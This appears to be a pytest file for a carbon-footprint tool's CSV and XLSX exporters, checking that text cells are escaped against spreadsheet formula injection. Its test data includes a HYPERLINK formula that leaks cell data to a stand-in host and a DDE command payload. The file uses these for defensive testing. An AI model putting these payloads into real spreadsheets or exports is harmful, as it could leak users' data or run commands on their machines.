"""CSV and XLSX: no cell a spreadsheet would evaluate, numbers stay numbers, xlsx needs -o."""

from __future__ import annotations

import csv
import io
import sys
import zipfile
from pathlib import Path

import pytest
from exchange_support import EV, FORMULA_START, declare, ok, run
from support import WriteProject

from carbonfp.formats.tables import tidy_rows
from carbonfp.formats.xlsx import SHEETS, read_sheets, safe_text, workbook_bytes

EVIL = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
]


def evil_project(write_project: WriteProject) -> Path:
    """A BOM whose text starts with formulas: component names, a factor source, a sub-BOM
    file name (it shows in 'where'), and the battery model."""
    rows = [["component", "material", "quantity", "unit", "stage", "factor", "factor_source"]]
    rows += [[name, "steel-sheet", "2", "kg", "", "", ""] for name in EVIL]
    rows.append(
        [
            '=HYPERLINK("x") cathode',
            "cam-nmc811",
            "20",
            "kg",
            "",
            "20 kg CO2e/kg",
            '=HYPERLINK("http://evil.example","supplier")',
        ]
    )
    rows.append(["cells", "bom:=sub.csv", "2", "pcs", "", "", ""])
    rows.append(
        [
            "recycling",
            "recycling-hydromet",
            "80",
            "kg",
            "end_of_life",
            "0.5 kg CO2e/kg",
            "test recycler 2026",
        ]
    )
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    sub = "component,material,quantity,unit\n@lid,steel-sheet,1,kg\n"
    return write_project(
        bom=out.getvalue(),
        battery={"model": '"=HYPERLINK(\\"http://evil.example\\",\\"EVP\\")"'},
        files={"=sub.csv": sub},
    )


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_no_formula_cell(rows: list[list[str]]) -> None:
    for row in rows[1:]:
        for cell in row:
            assert is_number(cell) or not cell.startswith(FORMULA_START), (cell, row)


@pytest.mark.parametrize("lines", [False, True])
def test_csv_neutralises_every_text_cell(write_project: WriteProject, lines: bool) -> None:
    args = ["calc", evil_project(write_project), "-f", "csv", *(["--lines"] if lines else [])]
    rows = list(csv.reader(io.StringIO(ok(*args).stdout)))
    assert_no_formula_cell(rows)
    texts = [cell for row in rows[1:] for cell in row]
    assert "'" + '=HYPERLINK("http://evil.example","EVP")' in texts  # kept, made text
    if lines:
        # the BOM reader strips blanks: "\t=1+1" arrives as "=1+1"
        assert "'" + EVIL[0] in texts and "'-2+3" in texts and "'=1+1" in texts
        assert "'=sub.csv:2" in texts
        header = rows[0]
        for column in ("quantity", "kg_co2e"):
            assert all(is_number(r[header.index(column)]) for r in rows[1:]), column
    else:  # figures are numbers; the metadata rows' text is made safe like any other
        figures = [r for r in rows[1:] if r[1] != "metadata"]
        assert figures and all(is_number(r[rows[0].index("value")]) for r in figures)


def xlsx_of(args: list[str | Path], out: Path) -> bytes:
    ok(*args, "-f", "xlsx", "-o", out)
    return out.read_bytes()


def test_xlsx_has_no_cell_a_spreadsheet_would_evaluate(
    write_project: WriteProject, tmp_path: Path
) -> None:
    pytest.importorskip("openpyxl")
    from openpyxl import load_workbook

    data = xlsx_of(["calc", evil_project(write_project)], tmp_path / "evil.xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, name
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == list(SHEETS)
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not cell.value.startswith(FORMULA_START), cell.value
    assert "'" + EVIL[0] in texts
    assert 'supplier: =HYPERLINK("http://evil.example","supplier")' in texts


def test_xlsx_numbers_stay_numbers_and_match_the_csv(tmp_path: Path) -> None:
    pytest.importorskip("openpyxl")
    sheets = read_sheets(xlsx_of(["calc", EV], tmp_path / "ev.xlsx"))
    rows = list(csv.reader(io.StringIO(ok("calc", EV, "-f", "csv").stdout)))
    tidy = [r for r in rows if r[1] != "metadata"]
    # the CSV's metadata rows are the metadata sheet's (empty text an empty cell)
    assert [[r[0], r[2], r[3] or None] for r in rows if r[1] == "metadata"] == sheets["metadata"][
        1:
    ]
    declaration = sheets["declaration"]
    assert declaration[0] == tidy[0]
    assert len(declaration) == len(tidy)
    for got, want in zip(declaration[1:], tidy[1:], strict=True):
        assert isinstance(got[3], (int, float))
        assert got[3] == pytest.approx(float(want[3]))
        assert got[:3] + got[4:] == want[:3] + want[4:]
    lines = sheets["lines"]
    csv_lines = list(csv.reader(io.StringIO(ok("calc", EV, "-f", "csv", "--lines").stdout)))
    assert lines[0] == csv_lines[0]
    assert len(lines) == len(csv_lines)
    header = lines[0]
    for got, want in zip(lines[1:], csv_lines[1:], strict=True):
        for column in ("quantity", "kg_co2e"):
            value = got[header.index(column)]
            assert isinstance(value, (int, float))
            assert value == pytest.approx(float(want[header.index(column)]))
        assert got[header.index("component")] == want[header.index("component")]
        assert got[header.index("factor")] == want[header.index("factor")]  # text stays text


def test_xlsx_bytes_are_deterministic(tmp_path: Path) -> None:
    pytest.importorskip("openpyxl")
    decl, _ = declare(EV)
    assert workbook_bytes(decl) == workbook_bytes(decl)
    assert xlsx_of(["calc", EV], tmp_path / "a.xlsx") == xlsx_of(["calc", EV], tmp_path / "b.xlsx")


def test_xlsx_needs_output(tmp_path: Path) -> None:
    result = run("calc", EV, "-f", "xlsx")
    assert result.exit_code == 2
    assert result.stdout == ""
    assert "needs --output" in result.stderr and "hint: " in result.stderr


def test_xlsx_without_openpyxl_is_a_clear_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "openpyxl", None)  # import openpyxl raises ImportError
    out = tmp_path / "decl.xlsx"
    result = run("calc", EV, "-f", "xlsx", "-o", out)
    assert result.exit_code == 2, result.stderr
    assert "needs openpyxl" in result.stderr
    assert "pip install 'carbonfp[xlsx]'" in result.stderr
    assert list(tmp_path.iterdir()) == []  # no file, not even a temporary one


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("  =1+1", "'  =1+1"),
        ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"),
        ("@x", "'@x"),
        ("'=already", "'=already"),
        ("cathode", "cathode"),
        ("a=b", "a=b"),
    ],
)
def test_safe_text(text: str, safe: str) -> None:
    assert safe_text(text) == safe


def test_declaration_rows_read_the_tidy_csv() -> None:
    decl, _ = declare(EV)
    rows = tidy_rows(decl)
    assert rows[0] == ["battery", "stage", "metric", "value", "unit"]
    assert all(isinstance(r[3], float) for r in rows[1:])
